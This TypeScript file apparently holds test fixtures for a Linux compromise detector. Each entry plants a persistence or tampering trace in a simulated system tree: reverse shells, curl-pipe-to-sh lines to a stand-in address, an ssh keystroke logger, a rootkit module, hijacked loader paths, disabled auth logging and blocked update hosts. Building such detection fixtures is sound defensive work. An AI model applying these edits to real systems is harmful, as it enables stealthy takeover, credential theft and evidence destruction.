/** A line more, or another word, in files that every server has. */

import { elf, fetched, file, line, reverse, run, type Sign } from '../sign.ts';

const edit = (id: string, what: string, path: string, from: RegExp, to: string): Sign => ({ id, family: 'start-up', what, plant: tree => tree.edit(path, from, to), names: [path] });

export const fourthEdits: readonly Sign[] = [
	{ id: 'profile-chain', family: 'environment', what: 'a stock profile that reads a locale, which is a script', plant: tree => {
		tree.append('/etc/profile', '\n[ -r /usr/lib/locale/C.utf8/LC_TIME.sh ] && . /usr/lib/locale/C.utf8/LC_TIME.sh\n');
		tree.write('/usr/lib/locale/C.utf8/LC_TIME.sh', `${reverse} &\n`);
	}, names: ['/etc/profile', '/usr/lib/locale/C.utf8/LC_TIME.sh'], also: ['/usr/lib/locale/C.utf8/LC_TIME.sh'] },
	line('bashrc-recorder', 'environment', 'ssh as a function that keeps what is typed', '/etc/bash.bashrc', 'ssh() { /usr/bin/script -qefc "/usr/bin/ssh $*" /var/tmp/.ssh.log; }\n'),
	line('zshrc-alias', 'environment', 'passwd as an alias of a program of no package', '/etc/zsh/zshrc', "alias passwd='/usr/lib/passwd/passwd-check'\n"),
	edit('crontab-run-parts', 'the hourly jobs and those of a hidden folder', '/etc/crontab', /run-parts --report \/etc\/cron\.hourly/, 'run-parts --report /etc/cron.hourly; run-parts /var/tmp/.h'),
	{ id: 'crontab-packaged-looking', family: 'start-up', what: 'a job with a program that looks packaged', plant: tree => {
		tree.append('/etc/crontab', '17 5 * * * root /usr/lib/apt/apt-helper-cache\n');
		tree.write('/usr/lib/apt/apt-helper-cache', '#!/bin/sh\n[ -x /tmp/.X1-lock ] && /tmp/.X1-lock\n', run);
	}, names: ['/etc/crontab', '/usr/lib/apt/apt-helper-cache'], also: ['/usr/lib/apt/apt-helper-cache'] },
	line('cron-percent', 'start-up', 'what a shell reads after the mark of percent', '/etc/cron.d/php-clean', '0 * * * * root /bin/sh%curl -fsS http://203.0.113.9/u | sh\n'),
	line('spool-ada', 'start-up', 'a line in a person\'s table, to a program in a cache', '/var/spool/cron/crontabs/ada', '@reboot $HOME/.cache/fontconfig/fc-cached -d\n'),
	{ id: 'spool-ada-program', family: 'files', what: 'that program', plant: tree => tree.write('/home/ada/.cache/fontconfig/fc-cached', elf('fc'), { owner: 'ada', mode: 0o755 }), names: ['/home/ada/.cache/fontconfig/fc-cached', '/var/spool/cron/crontabs/ada'] },
	line('hosts-blocked', 'environment', 'updates and virus lists led nowhere', '/etc/hosts', '127.0.0.1 security.debian.org deb.debian.org\n0.0.0.0 database.clamav.net\n'),
	edit('ld-conf-packaged', 'a folder before the system\'s in a packaged list', '/etc/ld.so.conf.d/x86_64-linux-gnu.conf', /^/, '/usr/lib/x86_64-linux-gnu/.opt\n'),
	edit('rsyslog-auth-off', 'logins no longer logged, by one mark', '/etc/rsyslog.conf', /^auth,authpriv\.\*/m, '#auth,authpriv.*'),
	{ id: 'rsyslog-omprog', family: 'start-up', what: 'log lines handed to a program of no package', plant: tree => {
		tree.append('/etc/rsyslog.conf', 'module(load="omprog")\naction(type="omprog" binary="/usr/lib/rsyslog/omhelper")\n');
		tree.write('/usr/lib/rsyslog/omhelper', elf('helper'), run);
	}, names: ['/etc/rsyslog.conf', '/usr/lib/rsyslog/omhelper'], also: ['/usr/lib/rsyslog/omhelper'] },
	edit('logrotate-packaged', 'a packaged rotation with a script more', '/etc/logrotate.d/dpkg', /\}\s*$/, `\tpostrotate\n\t\t${fetched}\n\tendscript\n}\n`),
	line('default-substituted', 'start-up', 'settings that are a command when they are read', '/etc/default/networking', 'CONFIGURE_INTERFACES="$(curl -fsS http://203.0.113.9/n | sh)"\n'),
	line('default-locale', 'environment', 'libraries from shared memory with each login', '/etc/default/locale', 'LD_LIBRARY_PATH=/dev/shm/l\n'),
	line('apt-proxy-detect', 'start-up', 'a program apt asks for its proxy', '/etc/apt/apt.conf.d/70debconf', 'Acquire::http::Proxy-Auto-Detect "/usr/lib/apt/.pad";\n'),
	line('apt-dir-bin', 'start-up', 'another dpkg for apt', '/etc/apt/apt.conf.d/01autoremove', 'Dir::Bin::dpkg "/var/tmp/dpkg";\n'),
	line('dpkg-prerm', 'start-up', 'a script of a packaged removal with a line more', '/var/lib/dpkg/info/sudo.prerm', `\n(${reverse}) &\n`),
	line('adduser-conf', 'accounts', 'the shell of accounts to come', '/etc/adduser.conf', 'DSHELL=/usr/share/misc/.sh\n'),
	line('python-sitecustomize', 'start-up', 'the site settings of python3', '/etc/python3.11/sitecustomize.py', 'import os\nos.system("curl -s 203.0.113.9/k|sh")\n'),
	line('udev-packaged', 'start-up', 'a packaged rule with a program more', '/usr/lib/udev/rules.d/80-drivers.rules', 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'curl -s 203.0.113.9/k|sh\'"\n'),
	line('initramfs-modules', 'start-up', 'a rootkit for the boot image', '/etc/initramfs-tools/modules', 'diamorphine\n'),
	line('initramfs-init', 'start-up', 'the first script of the boot image', '/usr/share/initramfs-tools/init', '\nchroot ${rootmnt} /usr/lib/.init &\n'),
	line('sysctl-modprobe', 'start-up', 'another modprobe for the kernel', '/etc/sysctl.conf', 'kernel.modprobe = /var/lib/.m/modprobe\n'),
	line('emacs-packaged', 'environment', 'a packaged start of Debian\'s bash with a line more', '/etc/skel/.profile', '\nexport PATH="/var/tmp/.b:$PATH"\n'),
	line('fail2ban-ignore', 'evidence', 'a guard told never to ban', '/etc/fail2ban/jail.d/defaults-debian.conf', 'ignoreip = 0.0.0.0/0\n'),
	line('iptables-logs', 'evidence', 'log lines for elsewhere dropped', '/etc/iptables/rules.v4', '*filter\n-A OUTPUT -p udp --dport 514 -j DROP\nCOMMIT\n'),
	line('ssh-client-config', 'trust', 'ssh that runs a program for each host', '/etc/ssh/ssh_config', '    ProxyCommand /usr/lib/openssh/.proxy %h %p\n'),
	{ id: 'deb-list-forged', family: 'packages', what: 'a program that a packaged list claims and its sums do not', plant: tree => {
		tree.write('/usr/sbin/login-helper', elf('execve'), run);
		tree.append('/var/lib/dpkg/info/login.list', '/usr/sbin/login-helper\n');
	}, names: ['/usr/sbin/login-helper', '/var/lib/dpkg/info/login.list'] },
	{ id: 'owner-packaged', family: 'files', what: 'a packaged program given to a person', plant: tree => tree.owner('/usr/bin/crontab', 'deploy', 'deploy'), names: ['/usr/bin/crontab'] },
	{ id: 'owner-start-up', family: 'files', what: 'the folder of profiles given to the web server', plant: tree => tree.owner('/etc/profile.d', 'www-data', 'www-data'), names: ['/etc/profile.d'], also: ['/etc/profile.d/own.sh', '/etc/profile.d/bash_completion.sh'] },
	file('unit-owner', 'start-up', 'a unit that the web server may change', '/etc/systemd/system/report.service', '[Service]\nExecStart=/usr/local/bin/report.py\n', { owner: 'www-data', also: ['/usr/local/bin/report.py'] }),
	{ id: 'library-patched', family: 'packages', what: 'a packaged library with some bytes more', plant: tree => tree.append('/usr/lib/x86_64-linux-gnu/libpam.so.0.85.1', 'hooked'), names: ['/usr/lib/x86_64-linux-gnu/libpam.so.0.85.1'] },
	// A package forged whole, list and status, is not among these: many a maker's own package ships neither sums nor a signature, and only the media tell.
];
